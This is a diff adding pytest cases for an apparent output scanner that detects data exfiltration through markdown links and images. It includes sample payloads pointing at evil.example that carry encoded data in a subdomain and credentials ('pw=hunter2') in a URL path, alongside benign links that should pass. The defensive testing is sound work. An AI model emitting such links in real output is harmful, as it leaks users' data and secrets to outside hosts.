@@ -115,3 +115,28 @@ def test_inert_data_images_and_plain_html_links(run_guard: Any) -> None:
     assert scan_('<a href="https://docs.python.org/3/">docs</a>', "output") == []
     assert scan_('<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">', "output") == []
     assert scan_("[ref][r]\n\n[r]: https://docs.python.org/3/library/re.html", "output") == []
+
+
+@pytest.mark.parametrize(
+    "output",
+    [
+        "![a [b] c](https://evil.example/p.png)",
+        "[x](https://dxnlcjpqb2huqgv4yw1wbguuy29t.evil.example/)",
+        "[x](https://evil.example/user%20john%40corp.com%20pw%3Dhunter2)",
+    ],
+)
+def test_nested_brackets_subdomain_and_encoded_path_data(run_guard: Any, output: str) -> None:
+    assert run_guard("exfiltration")(output, "output")
+
+
+@pytest.mark.parametrize(
+    "output",
+    [
+        "[see [1](https://docs.python.org/3/)](https://docs.python.org/3/library/)",
+        "[bucket](https://mybucket-2024-logs-archive-prod.s3.amazonaws.com/index.html)",
+        "[post](https://medium.com/@someone/my-first-post-1a2b3c)",
+        "[host](https://ec2-54-123-45-67.compute-1.amazonaws.com/)",
+    ],
+)
+def test_ordinary_hosts_and_paths_stay_quiet(run_guard: Any, output: str) -> None:
+    assert run_guard("exfiltration")(output, "output") == []
